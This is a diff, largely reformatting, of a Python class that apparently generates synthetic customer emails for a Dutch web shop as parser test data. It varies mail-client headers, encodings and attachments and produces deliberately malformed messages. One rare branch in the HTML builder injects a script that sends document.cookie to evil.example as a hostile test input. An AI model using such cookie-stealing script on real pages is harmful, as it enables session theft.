@@ -130,7 +130,9 @@ class Renderer:
         rng = self.rng
         prefix = {"nl": ("Re: ", "RE: ", "Antw: "), "en": ("Re: ", "RE: "), "de": ("AW: ", "Re: ")}
         if message.kind in ("headers", "own"):
-            token = f"[#{thread.token}] " if message.kind == "headers" and rng.random() < 0.3 else ""
+            token = (
+                f"[#{thread.token}] " if message.kind == "headers" and rng.random() < 0.3 else ""
+            )
             return rng.choice(prefix[language]) + token + thread.subject
         if message.kind == "token":
             return f"{rng.choice(prefix[language])}[#{thread.token}] {thread.subject}"
@@ -142,12 +144,16 @@ class Renderer:
     # --- ids and headers -------------------------------------------------------------------
     def _message_id(self, client: str, at: dt.datetime) -> str:
         rng = self.rng
-        token = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", k=40))
+        token = "".join(
+            rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", k=40)
+        )
         if client == "gmail":
             return f"CA{token}@mail.gmail.example"
         if client in ("outlook", "outlook2010"):
             box = f"AM{rng.randrange(0, 9)}PR0{rng.randrange(1, 9)}MB{rng.randrange(1000, 9999)}"
-            return f"{box}{token[:24].upper()}@{box}.eurprd0{rng.randrange(1, 9)}.prod.outlook.example"
+            return (
+                f"{box}{token[:24].upper()}@{box}.eurprd0{rng.randrange(1, 9)}.prod.outlook.example"
+            )
         if client == "apple":
             return f"{uuid.UUID(int=rng.getrandbits(128))}".upper() + "@icloud.example"
         if client == "webmail":
@@ -157,7 +163,9 @@ class Renderer:
     def _shop_id(self, at: dt.datetime) -> str:
         return f"{at:%Y%m%d%H%M%S}.{self.rng.getrandbits(48):012x}@mail.pollepel.example"
 
-    def _envelope(self, message: Planned, client: str, charset: str, subject: str) -> list[tuple[str, str]]:
+    def _envelope(
+        self, message: Planned, client: str, charset: str, subject: str
+    ) -> list[tuple[str, str]]:
         customer = message.customer
         assert customer is not None
         at = message.at
@@ -232,7 +240,9 @@ class Renderer:
         charset, text_cte, html_cte, shape = self._client_format(client, language)
         if shape != "text" and message.kind.startswith("malformed"):
             shape = "text"
-        body = self._body(client, shape, new_text, quoted, message, charset, text_cte, html_cte, features)
+        body = self._body(
+            client, shape, new_text, quoted, message, charset, text_cte, html_cte, features
+        )
         body = self._with_attachments(body, message, client, features)
         thread.ids.append(message.message_id)
         thread.last_own_id = message.message_id
@@ -243,7 +253,9 @@ class Renderer:
         elif client == "outlook2010":
             headers.append(("X-Mailer", "Microsoft Outlook 14.0"))
         if rng.random() < 0.3:
-            headers.append(("Content-Language", {"nl": "nl-NL", "en": "en-GB", "de": "de-DE"}[language]))
+            headers.append(
+                ("Content-Language", {"nl": "nl-NL", "en": "en-GB", "de": "de-DE"}[language])
+            )
         raw, features = self._finish(headers, body, message, features)
         if message.kind.startswith("malformed:"):
             raw = self._break(raw, message, features)
@@ -268,10 +280,20 @@ class Renderer:
         """(charset, text encoding, HTML encoding, shape: text / alternative / html)."""
         rng = self.rng
         if client == "gmail":
-            return "utf-8", "quoted-printable", "quoted-printable", "html" if rng.random() < 0.05 else "alternative"
+            return (
+                "utf-8",
+                "quoted-printable",
+                "quoted-printable",
+                "html" if rng.random() < 0.05 else "alternative",
+            )
         if client == "outlook":
             charset = "iso-8859-1" if language != "en" and rng.random() < 0.5 else "utf-8"
-            return charset, "quoted-printable", "quoted-printable", "html" if rng.random() < 0.05 else "alternative"
+            return (
+                charset,
+                "quoted-printable",
+                "quoted-printable",
+                "html" if rng.random() < 0.05 else "alternative",
+            )
         if client == "apple":
             cte = "base64" if rng.random() < 0.4 else "quoted-printable"
             return "utf-8", cte, cte, "alternative" if rng.random() < 0.5 else "text"
@@ -296,12 +318,14 @@ class Renderer:
             features["quoted history"] += 1
         features[f"charset {charset}"] += 1
         features[f"encoding {text_cte}"] += 1
-        extra = '; format=flowed' if client == "thunderbird" else ""
+        extra = "; format=flowed" if client == "thunderbird" else ""
         plain = _leaf("text/plain", text, charset, text_cte, extra)
         if shape == "text":
             features["structure text/plain"] += 1
             return plain
-        html = _leaf("text/html", self._html(client, new_text, quoted, header, features), charset, html_cte)
+        html = _leaf(
+            "text/html", self._html(client, new_text, quoted, header, features), charset, html_cte
+        )
         if shape == "html":
             features["structure text/html only"] += 1
             return html
@@ -310,7 +334,9 @@ class Renderer:
         return _Part([("Content-Type", f'multipart/alternative; boundary="{boundary}"')],
                      parts=[plain, html], boundary=boundary)  # fmt: skip
 
-    def _html(self, client: str, new_text: str, quoted: str, header: str, features: Counter[str]) -> str:
+    def _html(
+        self, client: str, new_text: str, quoted: str, header: str, features: Counter[str]
+    ) -> str:
         def paragraphs(text: str) -> str:
             return "".join(f"<div>{escape(line) or '<br>'}</div>" for line in text.splitlines())
 
@@ -330,7 +356,9 @@ class Renderer:
             extras += f'<img src="https://open.tracker.example/p.gif?u={rng.getrandbits(32):08x}" width="1" height="1">'
             features["html tracking pixel"] += 1
         if rng.random() < 0.005:
-            extras += "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+            extras += (
+                "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+            )
             features["html with script"] += 1
         if client.startswith("outlook"):
             return (
@@ -362,8 +390,8 @@ class Renderer:
             features["file attachment"] += 1
             features["inline image (cid)"] += 1
         if rng.random() < ATTACHMENT_SHARE:
-            for _ in range(1 if rng.random() < 0.8 else rng.randint(2, 3)):
-                attached.append(self._attachment(message, features))
+            count = 1 if rng.random() < 0.8 else rng.randint(2, 3)
+            attached.extend(self._attachment(message, features) for _ in range(count))
         if not attached:
             return body
         boundary = f"_mixed_{rng.getrandbits(48):012x}_"
@@ -387,7 +415,9 @@ class Renderer:
                                f"foto {message.product}.jpg"))  # fmt: skip
         elif kind == "png":
             size = large or int(rng.uniform(20_000, 250_000))
-            data = files.png(rng, width=1280 if not large else 1500, height=800 if not large else 1000, size=size)
+            data = files.png(
+                rng, width=1280 if not large else 1500, height=800 if not large else 1000, size=size
+            )
             name = rng.choice((f"Schermafbeelding {at:%Y-%m-%d} om {at:%H.%M.%S}.png", "screenshot betaling.png",
                                f"Screenshot_{at:%Y%m%d-%H%M%S}.png"))  # fmt: skip
         else:
@@ -423,7 +453,9 @@ class Renderer:
         rng = self.rng
         sender = message.customer
         assert sender is not None
-        message.message_id = f"{message.at:%Y%m%d%H%M%S}.{rng.getrandbits(40):010x}@{sender.address.split('@')[1]}"
+        message.message_id = (
+            f"{message.at:%Y%m%d%H%M%S}.{rng.getrandbits(40):010x}@{sender.address.split('@')[1]}"
+        )
         lost = f"{rng.choice([n for n in texts.FIRST_NAMES if n.isascii()]).lower()}@{rng.choice(texts.PROVIDERS)}"
         boundary = f"{rng.getrandbits(40):010X}.{int(message.at.timestamp())}/{sender.address.split('@')[1]}"
         explanation = (
@@ -447,7 +479,9 @@ class Renderer:
                    ("From", f"Mail Delivery System <{sender.address}>"), ("To", SHOP_ADDRESS),
                    ("Subject", "Undelivered Mail Returned to Sender"),
                    ("Message-ID", f"<{message.message_id}>"), ("Auto-Submitted", "auto-replied")]  # fmt: skip
-        return self._finish(headers, body, message, Counter({"kind bounce": 1, "structure multipart/report": 1}))
+        return self._finish(
+            headers, body, message, Counter({"kind bounce": 1, "structure multipart/report": 1})
+        )
 
     def _break(self, raw: bytes, message: Planned, features: Counter[str]) -> bytes:
         what = message.kind.split(":", 1)[1]
@@ -464,33 +498,72 @@ class Renderer:
             customer = message.customer
             assert customer is not None
             lines.insert(3, f"From: Ingrid Müller-Yılmaz <{customer.address}>".encode())
-            lines.insert(4, "Subject: Retour – kapotte koekenpan, graag geld terug €".encode("latin-1", "replace"))
+            lines.insert(
+                4,
+                "Subject: Retour – kapotte koekenpan, graag geld terug €".encode(
+                    "latin-1", "replace"
+                ),
+            )
         elif what in ("wrong_charset", "unknown_charset", "nul_bytes"):
-            lines = [line for line in lines if not line.lower().startswith((b"content-type", b"content-transfer"))]
-            charset = {"wrong_charset": "utf-8", "unknown_charset": "x-dutch-unknown"}.get(what, "utf-8")
-            lines += [f'Content-Type: text/plain; charset="{charset}"'.encode(), b"Content-Transfer-Encoding: 8bit"]
+            lines = [
+                line
+                for line in lines
+                if not line.lower().startswith((b"content-type", b"content-transfer"))
+            ]
+            charset = {"wrong_charset": "utf-8", "unknown_charset": "x-dutch-unknown"}.get(
+                what, "utf-8"
+            )
+            lines += [
+                f'Content-Type: text/plain; charset="{charset}"'.encode(),
+                b"Content-Transfer-Encoding: 8bit",
+            ]
             text = "Hoi,\n\nDe pan is beschadigd aangekomen. Graag retour, ik wil mijn geld terug (€ 34,95).\n\nGroet,\nRenée\n"
-            body = text.encode("latin-1", "replace") if what != "nul_bytes" else text.replace("pan", "pan\x00").encode()
+            body = (
+                text.encode("latin-1", "replace")
+                if what != "nul_bytes"
+                else text.replace("pan", "pan\x00").encode()
+            )
         elif what == "broken_boundary":
-            lines = [line for line in lines if not line.lower().startswith((b"content-type", b"content-transfer"))]
+            lines = [
+                line
+                for line in lines
+                if not line.lower().startswith((b"content-type", b"content-transfer"))
+            ]
             lines.append(b'Content-Type: multipart/mixed; boundary="=_abc123"')
             body = (b"--=_abc124\nContent-Type: text/plain; charset=utf-8\n\nDe bijlage is de factuur.\n"
                     b"--=_abc124\nContent-Type: application/pdf; name=factuur.pdf\n"
                     b"Content-Transfer-Encoding: base64\n\nJVBERi0xLjQKJeLjz9MK")  # fmt: skip
         elif what == "bad_base64":
-            lines = [line for line in lines if not line.lower().startswith((b"content-type", b"content-transfer"))]
-            lines += [b"Content-Type: text/plain; charset=utf-8", b"Content-Transfer-Encoding: base64"]
-            body = base64.encodebytes("Hoi, waar blijft mijn pakket?\n".encode())[:-6] + b"!!*&\n===\n"
+            lines = [
+                line
+                for line in lines
+                if not line.lower().startswith((b"content-type", b"content-transfer"))
+            ]
+            lines += [
+                b"Content-Type: text/plain; charset=utf-8",
+                b"Content-Transfer-Encoding: base64",
+            ]
+            body = base64.encodebytes(b"Hoi, waar blijft mijn pakket?\n")[:-6] + b"!!*&\n===\n"
         elif what == "bad_date":
-            lines = [b"Date: donderdag 14:03 +25:00" if line.startswith(b"Date:") else line for line in lines]
+            lines = [
+                b"Date: donderdag 14:03 +25:00" if line.startswith(b"Date:") else line
+                for line in lines
+            ]
         elif what == "long_subject":
             lines = [line for line in lines if not line.startswith(b"Subject:")]
             lines.insert(3, b"Subject: " + b"Retour bestelling " * 170)
         elif what == "deep_nesting":
-            lines = [line for line in lines if not line.lower().startswith((b"content-type", b"content-transfer"))]
+            lines = [
+                line
+                for line in lines
+                if not line.lower().startswith((b"content-type", b"content-transfer"))
+            ]
             lines.append(b'Content-Type: multipart/mixed; boundary="n0"')
             depth = 40
-            body = b"".join(b'--n%d\nContent-Type: multipart/mixed; boundary="n%d"\n\n' % (i, i + 1) for i in range(depth))
+            body = b"".join(
+                b'--n%d\nContent-Type: multipart/mixed; boundary="n%d"\n\n' % (i, i + 1)
+                for i in range(depth)
+            )
             body += b"--n%d\nContent-Type: text/plain\n\nGenest tot op de bodem.\n" % depth
             body += b"".join(b"--n%d--\n" % i for i in range(depth, -1, -1))
         return b"\n".join(lines) + b"\n\n" + body
